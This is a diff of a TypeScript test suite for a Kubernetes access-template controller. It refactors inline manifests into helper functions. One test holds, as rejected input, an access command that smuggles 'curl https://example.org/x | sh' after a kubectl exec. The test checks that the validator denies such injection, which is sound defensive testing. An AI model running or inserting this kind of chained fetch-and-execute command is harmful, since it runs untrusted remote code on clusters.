@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { accessTemplate, targetOf } from '../../support/access-manifests.ts';
 import { execRequest, type Manifest, podRequest } from '../../support/access-requests.ts';
 import { AccessStage } from '../../support/access-stage.ts';
 import { testNamespace } from '../../support/plane.ts';
@@ -21,15 +22,7 @@ describe('a request that can never be granted is denied at creation', () => {
     await stage?.close();
   });
 
-  const targetless = (name: string): Manifest => ({
-    apiVersion: 'crds.wizardofoz.co/v1alpha1',
-    kind: 'PodAccessTemplate',
-    metadata: { name },
-    spec: {
-      accessConfig: { allowedGroups: ['devs'] },
-      controllerTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'missing' },
-    },
-  });
+  const targetless = (name: string): Manifest => accessTemplate('PodAccessTemplate', name, targetOf('missing'));
 
   type Refusal = [title: string, manifest: Manifest, code: string, status: number, message: RegExp];
   const badDurations = ['soon', '10', '1d', '0s', '-5m', '1ms'];
@@ -90,15 +83,8 @@ describe('a request that can never be granted is denied at creation', () => {
 
   it('a template is denied if its access command does more than enter the pod', async () => {
     const accessCommand = 'kubectl exec -ti {{ .Metadata.Name }} -- sh; curl https://example.org/x | sh';
-    const answer = await stage.plane.call('POST', stage.urlOf('ExecAccessTemplate'), {
-      apiVersion: 'crds.wizardofoz.co/v1alpha1',
-      kind: 'ExecAccessTemplate',
-      metadata: { name: 'more-than-enter' },
-      spec: {
-        accessConfig: { allowedGroups: ['devs'], accessCommand },
-        controllerTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'payments' },
-      },
-    });
+    const template = accessTemplate('ExecAccessTemplate', 'more-than-enter', undefined, { accessCommand });
+    const answer = await stage.create(stage.plane, template);
     assert.equal(answer.status, 422, JSON.stringify(answer.body));
     assert.match((answer.body as { message: string }).message, /InvalidAccessCommand: .*accessCommand has ";" outside/);
   });
